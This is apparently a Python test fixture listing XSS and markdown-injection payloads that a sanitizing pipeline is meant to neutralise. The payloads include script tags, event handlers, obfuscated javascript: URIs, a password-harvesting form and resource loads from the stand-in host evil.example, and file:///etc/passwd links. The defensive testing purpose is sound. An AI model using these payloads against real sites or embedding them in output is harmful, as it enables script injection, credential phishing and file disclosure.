"""Hostile texts that must come out of the pipeline as harmless words."""

PAYLOADS = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="media/x.svg" onload=alert(1) alt=x>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="//evil.example">
<form action="//evil.example"><input name=password><button>Entrar</button></form>
<a href="javascript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<body onload=alert(1)>
<meta http-equiv=refresh content="0;url=//evil.example">
<link rel=stylesheet href=//evil.example/x.css>
<style>*{background:url(//evil.example)}</style>
<base href=//evil.example/>
<p style="position:fixed;inset:0">x</p>
<div onclick="alert(1)">x</div>
<details ontoggle=alert(1) open>x</details>
<video><source onerror=alert(1)></video>
<textarea><script>alert(1)</script></textarea>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<!--><img src=x onerror=alert(1)>-->
<!-- --!><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?><script>alert(1)</script>
<template><script>alert(1)</script></template>
<x onfocus=alert(1) tabindex=1 autofocus>
<marquee onstart=alert(1)>x</marquee>
<isindex action=javascript:alert(1) type=image>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java&#115;cript:alert(1))
[x](&#106;&#97;vascript:alert(1))
[x](&#x6A;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](java%73cript:alert(1))
[x](\javascript:alert(1))
[x](java\script:alert(1))
[x](<javascript:alert(1)>)
[x]( javascript:alert(1) "t")
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](file:///etc/passwd)
[x](//evil.example)
[x](/\evil.example)
[x](\\evil.example)
[x](https://evil.example/"onmouseover="alert(1))
[x](https://evil.example/' onmouseover='alert(1))
[x](https:javascript:alert(1))
[x](https://e.example "x\" onclick=\"alert(1)")
[x][r]

[r]: javascript:alert(1)
[x]: data:text/html,x "t"
<javascript:alert(1)>
<https://evil.example/"onclick=alert(1)>
![x](javascript:alert(1))
![x](https://evil.example/pixel.png)
![x](data:image/svg+xml,<svg/onload=alert(1)>)
![x](media/../../etc/passwd)
![x](media/x.svg"onerror="alert(1))
![" onerror="alert(1)](media/x.svg)
![x](media/x.svg "a\" onerror=\"alert(1)")
## Título {#x" onclick="alert(1)}
## Título {#id onclick=alert(1)}
## Título {: onclick=alert(1) }
## <script>alert(1)</script> {#ok}
/// clave
    attrs: {onclick: alert(1), style: 'x', class: trainer}
texto
///
/// caso | <script>alert(1)</script>
x
///
/// aviso | " onclick="alert(1)
x
///
| <script>alert(1)</script> | [x](javascript:alert(1)) |
|---|---|
| <img src=x onerror=alert(1)> | `<script>` |
**Tabla: " onfocus="alert(1)**
**<script>alert(1)</script>**
`<script>alert(1)</script>`
    <script>alert(1)</script>
> <script>alert(1)</script>
- <script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\<script\>alert(1)\</script\>
<<script>alert(1)//<</script>
<a<b onclick=alert(1)>
</p><script>alert(1)</script><p>
""".strip().split("\n")
